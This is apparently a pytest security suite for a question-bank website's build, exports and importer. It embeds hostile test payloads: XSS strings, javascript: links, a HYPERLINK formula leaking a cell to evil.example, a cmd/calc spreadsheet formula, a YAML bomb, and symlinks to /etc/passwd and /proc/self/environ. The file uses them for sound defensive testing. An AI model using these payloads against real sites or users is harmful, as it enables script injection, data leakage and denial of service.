"""Issue 10: no pull request can put active content or secrets on the site, no input loses data.

Each attack of the issue is a test, with its payload, checked where it would do harm: the
built HTML, the published CSV and Anki deck, the validator's report, the build's exit, the
bank after an import, and a real browser (no dialog ever opens).

* ``hostile_site``: ONE strict build of a copy of the project whose bank and data carry
  every payload that validation accepts as *text* (titles with Markdown links and attribute
  lists, ``javascript:`` links and attribute lists in topic/tag descriptions and source
  attributions, spreadsheet formulas); the site must show them as inert text.
* Payloads validation refuses (symlinks, HTML/SVG files, notebook HTML outputs, handlers,
  reserved classes, YAML bombs, broken data files) fail ``qbank validate`` *and* the build,
  also when the build's validation is skipped (the gate holds on its own).
"""

from __future__ import annotations

import csv
import html as html_module
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conftest import REPO, copy_project, file_tree, mkdocs_build, qbank_cmd, without_bank_validation
from qbank import importer
from qbank.anki import answer_html, markdown_to_anki_html
from qbank.bank import Question, slugify
from qbank.csvexport import neutralize, unneutralize
from qbank.pipeline import Project, run
from qbank.site import pages
from qbank.site.sanitize import TAGS, removed, sanitize_html
from qbank.validate import Context, validate_text

QBANK = qbank_cmd()
ZORBLAX = "What is a [zorblax](https://example.com){autofocus=1 onfocus=alert(document.domain)} widget?"
JS_TITLE = "Why is [this link](javascript:alert(1)) in a title?"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
DATA_PAYLOAD = "[click](javascript:alert(1)){: onclick=\"alert(2)\" .md-consent__overlay} <img src=x onerror=alert(3)>"
BOMB = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


# -- helpers ------------------------------------------------------------------------------


def question(title: str, body: str, topic: str = "foundations", qid: str = "q-5ec0001", tags: str = "neural-networks") -> str:
    return (f"---\nid: {qid}\ntitle: {json.dumps(title)}\ntopic: {topic}\ntags: [{tags}]\ndifficulty: easy\n"
            f"status: answered\norigins: []\n---\n\n## Answer (source: community)\n\n{body}\n")


def qbank(root: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*QBANK, *args], cwd=root, capture_output=True, text=True, timeout=300,
                          env={**os.environ, **(env or {})})


def build(root: Path, *, skip_validation: bool = False) -> subprocess.CompletedProcess:
    config = without_bank_validation(root) if skip_validation else None
    return mkdocs_build(root, root / "site", timeout=600, config=config)


class _Active(HTMLParser):
    """Everything active in an HTML document: handler attributes, script URLs, elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.handlers: list[str] = []
        self.urls: list[str] = []
        self.elements: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        if ("data-md-component", "search-share") in attrs and ("href", "javascript:void(0)") in attrs:
            return  # Material's own search "share" button (its template, no content of ours)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc") and value:
                clean = re.sub(r"[\x00-\x20]", "", value).lower()
                if clean.startswith(("javascript:", "data:", "vbscript:")) or name == "srcdoc":
                    self.urls.append(f"<{tag} {name}={value[:60]!r}>")

    handle_startendtag = handle_starttag


def active(html: str) -> _Active:
    parser = _Active()
    parser.feed(html)
    parser.close()
    return parser


def article(html: str) -> str:
    """The page's content (what the bank and the hooks produce), without Material's chrome."""
    start = html.find('<article class="md-content__inner')
    end = html.find("</article>", start)
    assert start >= 0 and end > start
    return html[start:end]


# -- the hostile but valid site ------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("hostile") / "repo", copy=("docs", "data", "seeds"), site=True)
    folder = root / "docs" / "questions" / "foundations"
    for qid, title, body in (("q-5ec0001", ZORBLAX, "A zorblax is a made-up word."),
                             ("q-5ec0002", JS_TITLE, "It should not be a link."),
                             ("q-5ec0003", FORMULA_TITLE, "@SUM(1+1)*cmd|' /C calc'!A0 is a formula, not an answer.")):
        (folder / f"{slugify(title)}.md").write_text(question(title, body, qid=qid), encoding="utf-8")
    for name, key in (("topics.yml", "description"), ("tags.yml", "description")):
        path = root / "data" / name
        text = path.read_text(encoding="utf-8")
        # the first description of each file carries the payload (as a YAML double-quoted string)
        text = re.sub(rf"(\n\s+{key}: ).*", lambda m: m.group(1) + json.dumps("A description. " + DATA_PAYLOAD), text,
                      count=1)
        path.write_text(text, encoding="utf-8")
    sources = root / "seeds" / "sources.yml"
    text = sources.read_text(encoding="utf-8")
    text = re.sub(r'(\n\s+attribution: ).*', lambda m: m.group(1) + json.dumps("From a source. " + DATA_PAYLOAD), text,
                  count=1)
    sources.write_text(text, encoding="utf-8")
    report = qbank(root, "validate")
    assert report.returncode == 0, report.stdout + report.stderr  # all of this is valid text
    proc = build(root)
    assert proc.returncode == 0, (proc.stdout + proc.stderr)[-3000:]
    return root / "site"


def test_no_built_page_holds_a_handler_or_a_script_url(hostile_site: Path) -> None:
    pages_ = sorted(hostile_site.rglob("*.html"))
    assert len(pages_) > 150
    for path in pages_:
        found = active(path.read_text(encoding="utf-8"))
        assert not found.handlers and not found.urls, (path, found.handlers, found.urls)


def test_titles_are_text_on_generated_pages(hostile_site: Path) -> None:
    topic = (hostile_site / "questions" / "foundations" / "index.html").read_text(encoding="utf-8")
    tag = (hostile_site / "tags" / "neural-networks" / "index.html").read_text(encoding="utf-8")
    for html in (topic, tag):
        content = article(html)
        found = active(content)
        assert not found.handlers and not found.urls, (found.handlers, found.urls)
        assert 'href="https://example.com"' not in content  # the title's link is not a link
        shown = html_module.unescape(re.sub(r"<[^>]+>", "", content))
        assert ZORBLAX in shown and JS_TITLE in shown


def test_data_descriptions_and_attributions_are_text(hostile_site: Path) -> None:
    for url in ("index.html", "questions/index.html", "tags/index.html", "sources/index.html"):
        content = article((hostile_site / url).read_text(encoding="utf-8"))
        found = active(content)
        assert not found.handlers and not found.urls, (url, found.handlers, found.urls)
        assert "md-consent__overlay" not in re.findall(r'class="([^"]*)"', content).__str__()
        assert "<img" not in content or 'src="x"' not in content


def test_published_csv_neutralises_formulas(hostile_site: Path) -> None:
    text = (hostile_site / "downloads" / "dl-interview-questions.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["id"] == "q-5ec0003")
    assert row["question"] == "'" + FORMULA_TITLE
    assert row["answer"].startswith("'@SUM(")
    for r in rows:  # no cell at all starts a formula
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value[:40]


def test_published_anki_deck_has_no_active_content(hostile_site: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(hostile_site / "downloads" / "dl-interview-questions.apkg") as z:
        z.extract("collection.anki2", tmp_path)
    with sqlite3.connect(tmp_path / "collection.anki2") as db:
        fields = [f for (flds,) in db.execute("SELECT flds FROM notes") for f in flds.split("\x1f")]
    assert len(fields) > 100
    for f in fields:
        found = active(f)
        assert not found.handlers and not found.urls and not found.elements & {"script", "iframe", "object"}, f[:200]


@pytest.mark.browser
@pytest.mark.xdist_group("browser")
def test_no_dialog_opens_in_a_real_browser(hostile_site: Path, browser) -> None:
    """The session's one browser (a second ``sync_playwright`` in the same worker fails)."""
    dialogs: list[str] = []
    context = browser.new_context()
    try:
        context.route(re.compile(r"^https?://"), lambda route: route.abort())
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for url in ("questions/foundations/index.html", "tags/neural-networks/index.html", "sources/index.html",
                    "index.html", f"questions/foundations/{slugify(ZORBLAX)}/index.html"):
            page.goto((hostile_site / url).as_uri())
            page.keyboard.press("Tab")  # autofocus/onfocus would fire here
            page.locator("h1").first.click()  # not a link (the left column now holds the topic's questions)
            page.wait_for_timeout(200)
            assert page.locator(".md-consent__overlay").count() == 0
        assert "zorblax" in page.locator("h1").inner_text()
    finally:
        context.close()
    assert dialogs == []


# -- what validation refuses, and the build refuses too -----------------------------------


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return copy_project(tmp_path / "repo", copy=("docs", "data", "seeds"), site=True)


def codes(proc: subprocess.CompletedProcess) -> list[str]:
    return re.findall(r":\d+:\d+: (QB\d{3}) ", proc.stdout)


def assert_refused(root: Path, code: str, *, gate_message: str | None = None) -> None:
    """``qbank validate`` reports ``code``; the build fails (with that code, or with the
    gate's own message); with validation skipped, the build still fails (the gate or the
    file checks hold on their own)."""
    report = qbank(root, "validate")
    assert report.returncode == 1 and code in codes(report), report.stdout[-2000:]
    proc = build(root)
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0 and (code in out or (gate_message or code) in out), out[-2000:]
    assert "Traceback" not in proc.stdout + proc.stderr
    if gate_message is not None:
        shutil.rmtree(root / "site", ignore_errors=True)
        proc = build(root, skip_validation=True)
        out = proc.stdout + proc.stderr
        assert proc.returncode != 0 and gate_message in out, out[-2000:]
        assert "Traceback" not in out


def test_symlinks_are_never_published(project: Path) -> None:
    (project / "docs" / "assets" / "images" / "env.txt").symlink_to("/proc/self/environ")
    (project / "docs" / "passwd").symlink_to("/etc/passwd")
    (project / "docs" / "outside").symlink_to(project.parent, target_is_directory=True)
    assert_refused(project, "QB108", gate_message="symbolic links are never published")
    assert not (project / "site" / "assets" / "images" / "env.txt").exists()


def test_a_symlinked_question_file_is_refused(project: Path) -> None:
    src = next((project / "docs" / "questions" / "foundations").glob("*.md"))
    (project / "docs" / "questions" / "foundations" / "linked-copy.md").symlink_to(src)
    assert_refused(project, "QB108", gate_message="symbolic links are never published")


@pytest.mark.parametrize("name, body", [
    ("evil.html", "<script>alert(1)</script>"),
    ("assets/images/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
])
def test_scriptable_files_under_docs_are_refused(project: Path, name: str, body: str) -> None:
    (project / "docs" / name).write_text(body, encoding="utf-8")
    assert_refused(project, "QB109", gate_message="can run script")


def test_a_plain_page_is_checked_and_gated(project: Path) -> None:
    (project / "docs" / "about.md").write_text("# About\n\n<img src=x onerror=alert(1)>\n", encoding="utf-8")
    assert_refused(project, "QB502", gate_message="docs/about.md: the page holds markup the site never publishes")


def test_reserved_classes_cannot_cover_the_page(project: Path) -> None:
    (project / "docs" / "questions" / "foundations" / "what-is-an-overlay.md").write_text(
        question("What is an overlay?", "[Continue](https://example.com){: .md-consent__overlay }\n\n"
                 "Text.{: .md-dialog }"), encoding="utf-8")
    assert_refused(project, "QB507", gate_message='class="md-consent__overlay" on <a>')


def _notebook(project: Path, cells: list[dict]) -> None:
    path = project / "docs" / "notebooks" / "attention.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    nb["cells"][1:1] = cells
    path.write_text(json.dumps(nb, indent=1), encoding="utf-8")


def test_notebook_markdown_cells_are_checked(project: Path) -> None:
    _notebook(project, [{"cell_type": "markdown", "metadata": {}, "id": "x1",
                         "source": ["A cell <img src=x onerror=alert(1)> and ",
                                    '<iframe srcdoc="<script>alert(2)</script>"></iframe>']}])
    report = qbank(project, "validate")
    assert report.returncode == 1 and {"QB501", "QB502"} <= set(codes(report)), report.stdout
    assert "docs/notebooks/attention.ipynb:" in report.stdout
    proc = build(project, skip_validation=True)
    assert proc.returncode != 0 and "the page holds markup the site never publishes" in proc.stdout + proc.stderr


@pytest.mark.parametrize("kind, data", [
    ("text/html", "<img src=x onerror=alert(1)>"),
    ("text/markdown", "[x](javascript:alert(1))"),
])
def test_notebook_html_and_markdown_outputs_are_refused(project: Path, kind: str, data: str) -> None:
    _notebook(project, [{"cell_type": "code", "metadata": {}, "id": "x2", "execution_count": 1, "source": ["1"],
                         "outputs": [{"output_type": "display_data", "metadata": {}, "data": {kind: [data]}}]}])
    report = qbank(project, "validate")
    assert report.returncode == 1 and "QB508" in codes(report), report.stdout
    if kind == "text/html":
        proc = build(project, skip_validation=True)
        assert proc.returncode != 0 and "the page holds markup the site never publishes" in proc.stdout + proc.stderr


def test_yaml_bombs_are_refused_quickly(project: Path) -> None:
    path = project / "docs" / "questions" / "foundations" / "what-is-a-yaml-bomb.md"
    text = question("What is a YAML bomb?", "Text.").replace("origins: []\n", "origins: []\n" + BOMB)
    path.write_text(text, encoding="utf-8")
    start = time.monotonic()
    report = qbank(project, "validate", str(path))
    assert time.monotonic() - start < 30
    assert report.returncode == 1 and "QB224" in codes(report), report.stdout
    assert len(report.stdout) < 5000
    start = time.monotonic()
    proc = build(project)
    assert proc.returncode != 0 and "QB224" in proc.stdout + proc.stderr
    assert time.monotonic() - start < 120


def test_a_broken_data_file_is_reported_not_a_traceback(project: Path) -> None:
    path = project / "data" / "topics.yml"
    path.write_text(path.read_text(encoding="utf-8").replace("    rules:", "    rulez:", 1), encoding="utf-8")
    report = qbank(project, "validate")
    assert report.returncode == 1 and "QB801" in codes(report), report.stdout + report.stderr
    assert "data/topics.yml:" in report.stdout and "Traceback" not in report.stdout + report.stderr
    proc = build(project)
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0 and "QB801" in out and "Traceback" not in out, out[-2000:]


# -- smaller holes, at the validator --------------------------------------------------------


@pytest.fixture(scope="module")
def ctx() -> Context:
    return Context.load(REPO)


def check(ctx: Context, text: str, name: str = "questions/foundations/what-is-a-probe.md") -> list[str]:
    return [p.code for p in validate_text(text, ctx, name)]


def test_control_characters_in_yaml_escapes(ctx: Context) -> None:
    text = question("What is a probe?", "Text.").replace('title: "What is a probe?"', 'title: "What\\u202e is a probe?"')
    assert check(ctx, text) == ["QB103"]
    text = question("What is a probe?", "Text.").replace('title: "What is a probe?"', 'title: "What is\\x07 a probe?"')
    assert check(ctx, text) == ["QB103"]


def test_katex_commands_that_would_render_as_red_text(ctx: Context) -> None:
    from qbank.katex import KatexRenderer

    renderer = KatexRenderer(REPO / "node_modules")
    try:
        for tex in (r"\href{javascript:alert(1)}{x}", r"\url{https://x.org}", r"\htmlClass{md-dialog}{x}",
                    r"\includegraphics{x.png}"):
            problems = validate_text(question("What is a probe?", f"See \\({tex}\\)."), ctx,
                                     "questions/foundations/what-is-a-probe.md", renderer=renderer)
            assert [p.code for p in problems] == ["QB402"], tex
            assert "is not allowed in a formula" in problems[0].message
    finally:
        renderer.close()


def test_relative_links_in_raw_html_resolve_from_the_page_url(ctx: Context) -> None:
    here = "questions/foundations/what-is-a-probe.md"
    sibling = next(p for p in (REPO / "docs" / "questions" / "foundations").glob("*.md")).stem
    ok = f'<a href="../{sibling}/">sibling</a> and <img src="../../../assets/images/home.jpg" alt="home">'
    assert check(ctx, question("What is a probe?", ok), here) == []
    # As a Markdown link would be written: wrong for raw HTML (one folder too shallow / a .md).
    assert check(ctx, question("What is a probe?", f'<a href="{sibling}.md">x</a>'), here) == ["QB608"]
    assert check(ctx, question("What is a probe?", '<img src="../../assets/images/home.jpg" alt="x">'), here) == ["QB604"]


def test_quoting_tricks_do_not_hide_a_handler(ctx: Context) -> None:
    for body in ('<a href="https://x.org" title="a`" onclick="alert(1)`">x</a>',
                 "[x](https://x.org){:&#32;onclick=alert(1)}"):
        assert "QB502" in check(ctx, question("What is a probe?", body)), body
        assert removed(answer_html(body)), body  # and the gate would take it out
        assert not active(markdown_to_anki_html(body)).handlers  # the deck is cleaned


# -- import never loses data ------------------------------------------------------------------


@pytest.fixture
def imported(tmp_path: Path) -> Project:
    """A fresh import of the seeds (every file untouched, so a re-import may delete)."""
    root = tmp_path / "repo"
    root.mkdir()
    for name in ("seeds", "data"):
        shutil.copytree(REPO / name, root / name)
    (root / "docs").mkdir()
    project = Project(root)
    proc = qbank(root, "import", "--quiet")
    assert proc.returncode == 0, proc.stderr
    return project




@pytest.mark.parametrize("seed, keep", [("000_d3bd1c64e802493d.txt", 120), ("001_bb0412ce525cf09f.txt", 200)])
def test_a_truncated_seed_is_refused(imported: Project, seed: str, keep: int) -> None:
    before = file_tree(imported.docs)
    path = imported.seeds / seed
    lines = path.read_text(encoding="utf-8").split("\n")
    path.write_text("\n".join(lines[:keep]) + "\n", encoding="utf-8")
    proc = qbank(imported.root, "import")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "would remove questions from the bank" in proc.stderr and "would go: docs/questions/" in proc.stderr, proc.stderr
    assert file_tree(imported.docs) == before
    proc = qbank(imported.root, "import", "--allow-removals")
    assert proc.returncode == 0, proc.stderr
    assert file_tree(imported.docs) != before  # accepted: files (or their answers) went


def _two_changes(project: Project) -> None:
    """A re-import that must update files *and* delete one: edit one answer in seed 000 and
    drop its last question."""
    path = project.seeds / "000_d3bd1c64e802493d.txt"
    text = path.read_text(encoding="utf-8")
    text = text.replace("Backpropagation is an algorithm used to train neural networks.",
                        "Backpropagation is the algorithm that computes gradients.", 1)
    lines = text.split("\n")
    cut = next(i for i, line in enumerate(lines) if line.startswith("What is Bradley-Terry model"))
    path.write_text("\n".join(lines[:cut]) + "\n", encoding="utf-8")


def test_a_write_failure_at_any_step_rolls_back(imported: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    _two_changes(imported)
    result = run(imported)
    before = file_tree(imported.docs)
    plan = importer.plan_import(result.questions, imported.docs)
    assert plan.update and plan.delete
    steps = 0
    real_replace = os.replace

    def count_only(src, dst):  # os.replace's signature
        nonlocal steps
        steps += 1
        real_replace(src, dst)

    monkeypatch.setattr(importer.os, "replace", count_only)
    importer.apply_plan(importer.plan_import(result.questions, imported.docs), imported.docs)
    total = steps
    assert total > 3
    for fail_at in range(1, total + 1):  # every rename of the apply phase, in turn
        monkeypatch.setattr(importer.os, "replace", real_replace)
        # back to the original bank
        shutil.rmtree(imported.docs)
        imported.docs.mkdir()
        for rel, data in before.items():
            (imported.docs / rel).parent.mkdir(parents=True, exist_ok=True)
            (imported.docs / rel).write_bytes(data)
        calls = 0

        def failing(src, dst, _at=fail_at):
            nonlocal calls
            calls += 1
            if calls == _at:
                raise OSError(28, "No space left on device")
            real_replace(src, dst)

        monkeypatch.setattr(importer.os, "replace", failing)
        with pytest.raises(importer.ImportWriteError):
            importer.apply_plan(importer.plan_import(result.questions, imported.docs), imported.docs)
        monkeypatch.setattr(importer.os, "replace", real_replace)
        assert file_tree(imported.docs) == before, f"not rolled back after a failure at rename {fail_at}"


def test_a_killed_import_is_rolled_back_by_the_next_run(imported: Project) -> None:
    _two_changes(imported)
    before = file_tree(imported.docs)
    # A child process applies the plan and is SIGKILLed in the middle of it.
    script = (
        "import os, sys\n"
        "from pathlib import Path\n"
        "from qbank import importer\n"
        "from qbank.pipeline import Project, run\n"
        "p = Project(Path(sys.argv[1]))\n"
        "plan = importer.plan_import(run(p).questions, p.docs)\n"
        "real = os.replace\n"
        "n = [0]\n"
        "def replace(a, b):\n"
        "    n[0] += 1\n"
        "    if n[0] == 3: os.kill(os.getpid(), 9)\n"
        "    real(a, b)\n"
        "importer.os.replace = replace\n"
        "importer.apply_plan(plan, p.docs)\n"
    )
    proc = subprocess.run([sys.executable, "-c", script, str(imported.root)], capture_output=True, timeout=120)
    assert proc.returncode == -9
    leftovers = [p for p in imported.docs.rglob(".qbank-*") if p.is_file()]
    assert leftovers, "the kill left no journal or temp files: the test did not interrupt anything"
    assert importer.recover(imported.docs) > 0
    assert file_tree(imported.docs) == before
    assert not list(imported.docs.rglob(".qbank-*"))


def test_stale_temp_files_are_cleaned_and_modes_are_normal(imported: Project) -> None:
    folder = imported.docs / "questions" / "foundations"
    (folder / ".qbank-left-over.md.abc.new.tmp").write_text("half a file", encoding="utf-8")
    _two_changes(imported)
    old_mask = os.umask(0o022)
    try:
        proc = qbank(imported.root, "import", "--allow-removals")
    finally:
        os.umask(old_mask)
    assert proc.returncode == 0, proc.stderr
    assert not list(imported.docs.rglob(".qbank-*"))
    modes = {stat.S_IMODE(p.stat().st_mode) for p in imported.docs.rglob("*.md")}
    assert modes == {0o644}, sorted(oct(m) for m in modes)


# -- properties --------------------------------------------------------------------------------

_PAYLOAD_BITS = st.sampled_from([
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "{: onclick=x}",
    "{: .md-consent__overlay}", "<iframe srcdoc=x>", "`", '"', "'", "&#106;avascript:", "<a href=", ">", "\n\n",
    "\\(x\\)", "*", "_", "[", "]", "(", ")", "{", "}", "#", "|", ":smile:", "<svg onload=alert(1)>", "data:text/html,x",
])
HOSTILE_TEXT = st.lists(st.one_of(_PAYLOAD_BITS, st.text(max_size=12)), max_size=12).map("".join)


@settings(max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(HOSTILE_TEXT)
@example(ZORBLAX)
@example(DATA_PAYLOAD)
def test_property_data_text_is_inert_on_generated_pages(value: str) -> None:
    """Any title, alias or data string, written by the generated pages' text(), renders (with
    the site's Markdown) to HTML the gate has nothing to take out of, and to no active content."""
    q = Question(id="q-5ec0004", title=value, topic="foundations", tags=["neural-networks"], difficulty="easy",
                 status="answered", path=Path("questions/foundations/x.md"))
    md = (f"# {pages.text(value)}\n\n{pages.text(value)}\n\n| {pages.text(value)} |\n|---|\n| x |\n\n"
          f"- {pages.text(value)}\n\n{pages.question_list([q], '../../')}")
    html = answer_html(md)
    assert removed(html) == []
    found = active(sanitize_html(html))
    assert not found.handlers and not found.urls and found.elements <= TAGS


@settings(max_examples=400, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(HOSTILE_TEXT)
@example('<a href="https://x.org" title="a`" onclick="alert(1)`">x</a>')
@example("[x](https://x.org){:&#32;onclick=alert(1)}")
def test_property_what_validates_is_what_the_gate_keeps(ctx: Context, body: str) -> None:
    """If validation accepts an answer (no HTML, link or math error), the site's gate has
    nothing to remove from it: the validator never waves through what the build refuses,
    and the exports (which carry the validated Markdown) hold nothing active."""
    problems = validate_text(question("What is a probe?", body or "x"), ctx)
    if any(p.code.startswith(("QB4", "QB5", "QB6")) or p.code in ("QB305", "QB311", "QB303") for p in problems):
        return
    html = answer_html(body)
    assert removed(html) == [], (body, removed(html))
    deck = markdown_to_anki_html(body)
    found = active(deck)
    assert not found.handlers and not found.urls


@given(st.text(max_size=40))
@example("=1+1")
@example("'=1+1")
@example("-")
def test_property_csv_cells_round_trip_and_never_start_a_formula(cell: str) -> None:
    out = neutralize(cell)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unneutralize(out) == cell
